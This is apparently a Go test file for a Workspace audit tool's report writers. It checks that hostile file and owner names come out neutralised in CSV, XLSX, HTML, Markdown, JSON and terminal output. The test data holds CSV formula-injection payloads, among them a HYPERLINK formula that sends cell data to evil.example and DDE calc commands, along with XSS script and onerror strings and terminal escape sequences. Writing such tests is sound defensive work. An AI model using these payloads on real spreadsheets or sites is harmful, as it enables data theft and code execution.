package report

import (
	"bytes"
	"encoding/csv"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/gwsaudit/gwsaudit/model"
)

// hostileNames are file and form names as thousands of users type them.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"請求書")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1 タブ",
	"\r=1+1 復帰",
	"＝全角の等号",
	`<script>window.__pwned=1</script>`,
	`"><img src=x onerror="window.__pwned=1">`,
	`'single' "double" & ampersand`,
	"一行目\n二行目\r\n三行目",
	"😀 絵文字 👩‍👩‍👧 🇯🇵",
	"児童名簿（令和7年度）_保護者連絡先.xlsx",
	strings.Repeat("とても長い名前", 2000), // 14,000 characters
	"[link](javascript:alert(1)) | pipe `code`",
}

// hostileDoc has one finding per hostile name; the owner and path are
// hostile too.
func hostileDoc() *Document {
	var fs []model.Finding
	for i, n := range hostileNames {
		r := model.Resource{Kind: model.KindFile, ID: "evil-" + string(rune('a'+i)), Name: n, Owner: "=owner" + string(rune('a'+i)) + "@city.example.lg.jp",
			Path: "/@共有/" + n[:min(len(n), 12)], URL: "javascript:window.__pwned=1"}
		if i%2 == 0 {
			r.URL = "https://docs.google.com/document/d/evil"
		}
		fs = append(fs, model.Finding{Fingerprint: model.Fingerprint("SHARE-002", r.ID, nil), CheckID: "SHARE-002", Severity: model.Severity(i % 5),
			Resource: r, Principal: &model.Principal{Type: model.TypeUser, Email: "-x@evil.example", Role: "reader"},
			Evidence: map[string]any{"personal_data": []string{"=氏名"}}})
	}
	cov := model.Coverage{Gaps: []model.Gap{{Scope: model.ScopeItem, ID: "evil-a", Name: hostileNames[7], Code: model.GapItemPermissions, Reason: hostileNames[0]}}}
	d := New(Run{ID: "<b>run</b>", Mode: ModeFull, Tenant: Tenant{PrimaryDomain: "<i>city</i>.example.lg.jp"}}, cov, fs)
	d.Tool.Version = "test"
	return d
}

func assertMode0600(t *testing.T, path string) {
	t.Helper()
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("%s: mode %v, want 0600", path, fi.Mode().Perm())
	}
}

// isFormulaStart reports whether a cell with this text must be neutralized.
func isFormulaStart(s string) bool {
	return s != "" && strings.ContainsRune(formulaStarts, []rune(s)[0])
}

func TestHostileNamesCSV(t *testing.T) {
	for _, lang := range Languages() {
		d := localized(t, hostileDoc(), lang)
		var b bytes.Buffer
		if err := WriteCSV(&b, d, lang, true); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte(utf8BOM)))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != len(d.Findings)+1 {
			t.Fatalf("%d records for %d findings: a name broke the rows", len(recs), len(d.Findings))
		}
		for i, rec := range recs[1:] {
			f := d.Findings[i]
			// encoding/csv reads "\r\n" inside quotes as "\n" and drops a lone "\r".
			want := strings.ReplaceAll(strings.ReplaceAll(inert(f.Resource.Name), "\r\n", "\n"), "\r", "")
			if rec[sheetPos[colItem]] != want || rec[sheetPos[colOwner]] != "'"+f.Resource.Owner || rec[sheetPos[colPrincipal]] != "'-x@evil.example" {
				t.Errorf("row %d: item %q owner %q principal %q", i, rec[sheetPos[colItem]], rec[sheetPos[colOwner]], rec[sheetPos[colPrincipal]])
			}
			for _, cell := range rec {
				if isFormulaStart(cell) {
					t.Errorf("row %d: cell %q would be a formula", i, cell)
				}
			}
		}
	}
}

func TestHostileNamesXLSX(t *testing.T) {
	d := localized(t, hostileDoc(), "ja")
	f := openXLSX(t, d, "ja")
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
					t.Errorf("%s!%s is a formula: %q", sheet, ref, formula)
				}
				if isFormulaStart(v) {
					t.Errorf("%s!%s = %q starts like a formula", sheet, ref, v)
				}
			}
		}
	}
	rows, _ := f.GetRows("検出結果")
	for i, fd := range d.Findings {
		if got := rows[i+1][sheetPos[colItem]]; got != inert(fd.Resource.Name) {
			t.Errorf("row %d: item %q, want %q", i, got, inert(fd.Resource.Name))
		}
	}
}

func TestHostileNamesHTML(t *testing.T) {
	d := localized(t, hostileDoc(), "ja")
	var b bytes.Buffer
	if err := WriteHTML(&b, d, "ja"); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if n := strings.Count(out, "<script"); n != 1 {
		t.Errorf("%d <script elements, want only the page's own", n)
	}
	for _, bad := range []string{"<img", "<i>city", "<b>run", `href="javascript:`, `onerror="`} {
		if strings.Contains(out, bad) {
			t.Errorf("unescaped %q in HTML", bad)
		}
	}
	for _, want := range []string{"&lt;script&gt;window.__pwned=1&lt;/script&gt;", "😀 絵文字 👩‍👩‍👧 🇯🇵", strings.Repeat("とても長い名前", 2000), "一行目\n二行目"} {
		if !strings.Contains(out, want) {
			t.Errorf("HTML lacks %.40q", want)
		}
	}
	if !strings.Contains(out, "script-src 'sha256-") && !strings.Contains(out, "script-src &#39;sha256-") {
		t.Error("no Content-Security-Policy pinning the script")
	}
	if strings.Contains(out, "http://") && !strings.Contains(out, "http://evil.example") {
		t.Error("the page references an external resource")
	}
}

func TestHostileNamesMarkdown(t *testing.T) {
	d := localized(t, hostileDoc(), "ja")
	var b bytes.Buffer
	if err := WriteMarkdown(&b, d, "ja"); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, bad := range []string{"<script", "<img", "<i>", "\r"} {
		if strings.Contains(out, bad) {
			t.Errorf("Markdown contains %q", bad)
		}
	}
	if regexp.MustCompile(`[^\\]\]\(javascript:`).MatchString(out) {
		t.Error("Markdown has a javascript: link")
	}
	rows := 0
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "| ") && strings.Contains(line, "SHARE-002") {
			rows++
			if n := strings.Count(strings.ReplaceAll(line, `\|`, ""), "|"); n != 7 {
				t.Errorf("table row has %d pipes, want 7: %.120q", n, line)
			}
		}
	}
	if rows != markdownTop {
		t.Errorf("%d finding rows, want %d", rows, markdownTop)
	}
}

func TestHostileNamesJSON(t *testing.T) {
	d := hostileDoc()
	var b bytes.Buffer
	if err := WriteJSON(&b, d); err != nil {
		t.Fatal(err)
	}
	back, err := ReadJSON(&b)
	if err != nil {
		t.Fatal(err)
	}
	for i, f := range back.Findings {
		if f.Resource.Name != d.Findings[i].Resource.Name {
			t.Errorf("name changed: %.40q", f.Resource.Name)
		}
	}
}

// TestTermSafe: escape sequences, C1 controls, bidi marks and overrides and
// invalid UTF-8 never reach a terminal; Japanese text does.
func TestTermSafe(t *testing.T) {
	for in, want := range map[string]string{
		"名簿\x1b[31m":      "名簿\uFFFD[31m",
		"a\u200eb\u202ec": "a\uFFFDb\uFFFDc",
		"\u0085x\xff":     "\uFFFDx\uFFFD",
		"住民票 2026.xlsx":   "住民票 2026.xlsx",
	} {
		if got := TermSafe(in); got != want {
			t.Errorf("TermSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// openXLSX writes d as an XLSX workbook in lang and opens it; it is closed
// when the test ends.
func openXLSX(t *testing.T, d *Document, lang string) *excelize.File {
	t.Helper()
	var b bytes.Buffer
	if err := WriteXLSX(&b, d, lang); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}
